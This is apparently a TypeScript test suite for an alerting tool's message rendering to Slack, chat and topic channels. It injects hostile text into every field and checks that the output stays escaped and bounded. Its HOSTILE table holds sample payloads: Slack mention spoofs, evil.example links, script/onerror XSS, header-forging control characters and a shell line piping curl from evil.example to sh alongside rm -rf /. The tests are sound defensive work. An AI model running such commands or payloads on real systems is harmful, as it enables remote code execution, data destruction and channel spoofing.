import assert from 'node:assert/strict';
import { test } from 'node:test';
import { LOCALES, type Locale } from '../../lib/core/locale.ts';
import type { Message, PublishedMessage } from '../../lib/core/notify/message.ts';
import type { RenderedFinding } from '../../lib/core/report.ts';
import { PROBES } from '../../lib/probes/registry.ts';
import { chatNotification } from '../../lib/report/message/chat.ts';
import { LARGEST_PUBLISH_BYTES, topicEntry } from '../../lib/report/message/envelope.ts';
import { writeMessage } from '../../lib/report/message/message.ts';
import { slackPayload } from '../../lib/report/message/slack.ts';
import { renderFinding } from '../../lib/report/text/render-finding.ts';
import { sampleMessages } from '../../scripts/sample-messages.ts';
import { fc } from '../support/property.ts';
import { allTexts, markedTexts, slackRefusals } from '../support/slack-rules.ts';

/** What peers, tags and foreign alarms may hold. Each is put wherever a message holds text. */
const HOSTILE: Readonly<Record<string, string>> = {
  'mentions of Slack': '<!channel> <!here|here> <@U012AB3CD> <#C024BE7LR> @here @channel',
  'links of Slack': '<https://evil.example|AWS console> <mailto:a@evil.example|mail>',
  'formatting of Slack': '*bold* _italic_ ~gone~ `code` ```\nblock\n``` :rotating_light: &lt;!channel&gt;',
  Markdown: '[AWS](https://evil.example) ![x](https://evil.example/p.png) # title\n> quote\n| a | b |',
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)><!-- --> &amp; "\' </textarea></pre>',
  'a shell': '$(curl evil.example|sh); rm -rf / `id` && "\'; reboot #',
  'control characters':
    '\u0000\u0007\u001b[31mred\u001b[0m\r\nSubject: forged\r\n\u0085\u2028next\u202eetagerewag\u2066',
  'half characters': '\ud800 x \udc00',
  'nothing but backslashes and quotes': '\\"'.repeat(4000),
  '100 KB in one word': 'A'.repeat(100_000),
  '100 KB of lines': '한글 <b>&\n'.repeat(12_000),
};

function hostileFinding(finding: RenderedFinding, text: string, entries = 40): RenderedFinding {
  const one = {
    subject: text,
    outcome: text,
    address: text,
    issuerName: text,
    names: [text, text],
    deep: { a: { b: [text] } },
  };
  const fault = {
    reason: finding.reason ?? 'x',
    status: 'failed',
    severity: 'critical',
    subject: text,
    address: text,
  } as const;
  return {
    ...finding,
    target: text,
    vantage: text,
    summary: text,
    evidence: Array.from({ length: entries }, () => ({ ...one, faults: [text] })),
    faults: Array.from({ length: entries }, () => ({ ...fault, values: { issuerName: text } })),
    measurements: [],
    explanations: Array.from({ length: 10 }, () => ({ what: text, id: text, because: text, fix: text })),
    runbook: {
      title: text,
      meaning: text,
      causes: Array.from({ length: 20 }, () => text),
      steps: Array.from({ length: 20 }, () => text),
      commands: Array.from({ length: 20 }, () => text),
      links: [text, `https://${text}`, 'javascript:alert(1)', 'https://ok.example/a|b'],
    },
  };
}

/** Every sort of message with the text in every place that is not ours. */
async function hostileMessages(text: string, locale: Locale): Promise<readonly PublishedMessage[]> {
  const messages = [...(await sampleMessages(locale)).values()];
  return messages.map((message): PublishedMessage => {
    const links = { alarm: text, dashboard: `https://${text}`, logs: 'https://ok.example/logs' };
    const shared = { ...message, links, origin: { stage: text, region: text } };
    return writeMessage(poison({ ...shared } as Message, text), locale);
  });
}

function poison(message: Message, text: string): Message {
  switch (message.type) {
    case 'alarm':
      return { ...message, alarm: text, text, stateReason: text, vantage: text, target: text, check: text };
    case 'digest': {
      const many = (list: readonly RenderedFinding[]) =>
        Array.from({ length: 120 }, (_, index) => list[index % Math.max(1, list.length)]).flatMap((one) =>
          one === undefined ? [] : [hostileFinding(one, text)],
        );
      return {
        ...message,
        failed: many(message.failed),
        degraded: many(message.degraded),
        muted: many(message.muted),
        recovered: many(message.recovered ?? []),
        alarms: Array.from({ length: 120 }, (_, index) => ({
          alarm: text,
          about: 'heartbeat',
          state: 'ALARM',
          vantage: text,
          ...(index === 0 && { text }),
        })),
      };
    }
    case 'failed':
    case 'reminder':
    case 'still-broken-after-maintenance':
      return { ...message, finding: hostileFinding(message.finding, text), doesNotProve: [text, text] };
    case 'recovered':
    case 'improved':
      return { ...message, finding: hostileFinding(message.finding, text), before: text };
  }
}

function assertInert(published: PublishedMessage): void {
  const { subject, body } = published;
  assert(subject.length < 100 && subject.length > 0, `${subject.length} characters`);
  assert.doesNotMatch(subject, /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
  assert(subject.isWellFormed() && body.isWellFormed());
  assert(body.length < 17_000, `${body.length} characters`);
  assert.doesNotMatch(
    body,
    /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/,
  );

  const entry = topicEntry(published);
  const bytes = Buffer.byteLength(entry.message) + Buffer.byteLength(JSON.stringify(entry.attributes));
  assert(bytes < LARGEST_PUBLISH_BYTES, `${bytes} bytes`);

  const slack = slackPayload(published);
  assert.deepEqual(slackRefusals(slack), []);
  for (const text of allTexts(slack)) {
    assert(text.isWellFormed());
    // Every control character of Slack's is either an entity or part of a link of ours.
    const bare = text.replace(/<https:\/\/[^\s<>|]+(\|[^<>|\n]+)?>/g, '').replace(/&(amp|lt|gt);/g, '');
    assert.doesNotMatch(bare, /[<>&]/);
  }
  for (const text of markedTexts(slack)) {
    const formatted = withoutCode(text)
      .replace(/^\*[^*\n]+\*/gm, '')
      .replace(/<https:[^>]+>/g, '');
    assert.doesNotMatch(formatted, /[*~`]/);
  }
  for (const [, label] of allTexts(slack)
    .join('\n')
    .matchAll(/<https:\/\/evil[^>|]*(\|[^>]*)?>/g)) {
    assert.fail(`a link to somebody else: ${label}`);
  }

  const { content } = chatNotification(published);
  assert(content.title.length <= 250 && content.title.length > 0);
  assert(
    content.description.length <= 8000 && content.description.length > 0,
    `${content.description.length}`,
  );
  for (const step of content.nextSteps ?? []) assert(step.length <= 350);
  for (const keyword of content.keywords) assert(keyword.length <= 75 && keyword.length > 0);
  const shown = [content.title, content.description, ...(content.nextSteps ?? [])].join('\n');
  assert.doesNotMatch(shown.replace(/&(amp|lt|gt);/g, ''), /[<>&]/);
  const formatted = withoutCode(shown).replace(/^\*[^*\n]+\*/gm, '');
  assert.doesNotMatch(formatted, /[*~`]|\]\(/);
}

/** Nothing is formatted inside a code block, which the next fence ends, from any author. */
function withoutCode(text: string): string {
  return text.replace(/```[\s\S]*?```/g, '');
}

for (const [what, text] of Object.entries(HOSTILE)) {
  test(`${what} in every place of every message is bounded and does nothing in any channel`, async () => {
    for (const locale of LOCALES) {
      for (const published of await hostileMessages(text, locale)) assertInert(published);
    }
  });
}

test('whatever a peer says, every channel takes it and nothing in it works', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.oneof(
        fc.string({ unit: 'binary', maxLength: 400 }),
        fc.string({
          unit: fc.constantFrom('<', '>', '&', '*', '_', '~', '`', '\n', '@', '|', '!', 'a', ' ', '\\', '"'),
          maxLength: 300,
        }),
      ),
      async (text) => {
        for (const published of await hostileMessages(text, 'en')) assertInert(published);
      },
    ),
    { numRuns: 40 },
  );
});

test('an alarm whose name formats text does so in no link to it', async () => {
  const text = 'a*b~c](d)*e~';
  for (const published of await hostileMessages(text, 'en')) assertInert(published);
  const messages = await hostileMessages(text, 'en');
  assert(messages.some(({ body }) => body.includes('https://a%2Ab%7Ec%5D%28d%29%2Ae%7E')));
});

test('a value of a peer never stands in a command', async () => {
  const evil = HOSTILE['a shell'] ?? '';
  const told = await renderFinding(
    {
      vantage: 'here',
      target: 'x',
      check: 'port',
      status: 'failed',
      reason: 'port-filtered',
      severity: 'critical',
      evidence: [{ subject: evil, outcome: 'silent' }],
      faults: [
        {
          reason: 'port-filtered',
          status: 'failed',
          severity: 'critical',
          subject: evil,
          address: evil,
          port: 443,
        },
      ],
      measurements: [],
      explanations: [],
    },
    PROBES,
    'en',
  );
  assert.deepEqual(told.runbook?.commands, []);
});

test('no command of any runbook holds a backtick, which a code block of Slack would change', async () => {
  for (const { kind, runbook } of PROBES) {
    const { remedies } = await runbook.remedies();
    for (const { commands } of Object.values(remedies)) assert.doesNotMatch(commands.join('\n'), /`/, kind);
  }
});

test('a command that would have to be cut is left out whole, and so is a fix of which a line would be', async () => {
  const [first] = (await sampleMessages('en')).values();
  assert(first?.type === 'failed');
  const long = `aws ec2 ${'x'.repeat(2000)}`;
  const fix = `GROUP_ID=$(aws ec2 create-security-group)\n${long}`;
  const { runbook } = first.finding;
  assert(runbook !== null);
  const { message } = writeMessage(
    {
      ...first,
      finding: {
        ...first.finding,
        runbook: { ...runbook, commands: [long, 'date -u'] },
        explanations: [{ what: 'security-group', id: 'sg-1', fix }],
      },
    },
    'en',
  );
  assert(message.type === 'failed');
  assert.deepEqual(message.finding.runbook?.commands, ['date -u']);
  assert.equal(message.finding.explanations[0]?.fix, '');
});

test('evidence at which something is wrong survives the cut', async () => {
  const [first] = (await sampleMessages('en')).values();
  assert(first?.type === 'failed');
  const good = Array.from({ length: 500 }, (_, index) => ({
    subject: `good-${index}`,
    outcome: 'open',
    banner: 'x'.repeat(300),
  }));
  const evidence = [...good, { subject: 'bad', outcome: 'silent', faults: ['port-filtered'] }];
  const { body, message } = writeMessage({ ...first, finding: { ...first.finding, evidence } }, 'en');
  assert.match(body, /^ {4}bad {2}no response$/m);
  assert(message.type === 'failed');
  assert.equal(message.finding.evidence[0]?.subject, 'bad');
});
